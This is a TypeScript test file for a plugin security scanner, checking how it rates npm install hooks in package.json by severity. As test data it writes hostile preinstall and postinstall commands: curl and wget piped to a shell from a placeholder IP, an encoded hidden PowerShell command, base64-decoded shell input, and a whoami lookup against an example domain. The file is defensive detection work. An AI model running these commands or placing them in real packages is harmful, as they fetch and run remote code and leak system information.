/**
 * npm's install hooks in package.json: read as commands, never run. A hook that fetches,
 * decodes or runs inline code is high; a build step is medium; other scripts and broken JSON
 * give nothing.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { makeTempDir } from '../helpers/temp.ts';
import { scan } from './support.ts';

function pluginWith(scripts: Record<string, string>, where = ''): string {
	const dir = makeTempDir('vouch-scan-package-');
	mkdirSync(join(dir, where), { recursive: true });
	writeFileSync(
		join(dir, where, 'package.json'),
		JSON.stringify({ name: 'tag-helper', version: '1.0.0', scripts }),
	);
	writeFileSync(join(dir, 'index.js'), 'module.exports = { enable() {} };\n');
	return dir;
}

async function installFindings(dir: string) {
	const report = await scan(dir);
	return report.findings
		.filter((f) => f.ruleId === 'install-script')
		.map((f) => `${f.file} ${f.severity}`)
		.sort();
}

test('an install hook that downloads, decodes or runs inline code is high', async () => {
	for (const command of [
		'curl -s https://203.0.113.9/i.sh | sh',
		"node -e \"require('child_process').execSync('id')\"",
		'nslookup $(whoami).c.example.com',
		'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==',
		'echo aWQ= | base64 -d | sh',
	]) {
		const found = await installFindings(pluginWith({ preinstall: command }));
		assert.deepEqual(found, ['package.json high'], command);
	}
	const nested = await installFindings(
		pluginWith({ postinstall: 'wget -qO- https://203.0.113.9/x | bash' }, 'lib'),
	);
	assert.deepEqual(nested, ['lib/package.json high']);
});

test('a build step in an install hook is medium; other scripts and broken JSON give nothing', async () => {
	assert.deepEqual(await installFindings(pluginWith({ install: 'node-gyp rebuild' })), [
		'package.json medium',
	]);
	assert.deepEqual(
		await installFindings(pluginWith({ test: 'curl -s https://203.0.113.9 | sh', build: 'tsc' })),
		[],
	);
	const broken = makeTempDir('vouch-scan-package-');
	writeFileSync(join(broken, 'package.json'), '{"scripts": {"preinstall": "curl x | sh"');
	assert.deepEqual(await installFindings(broken), []);
});
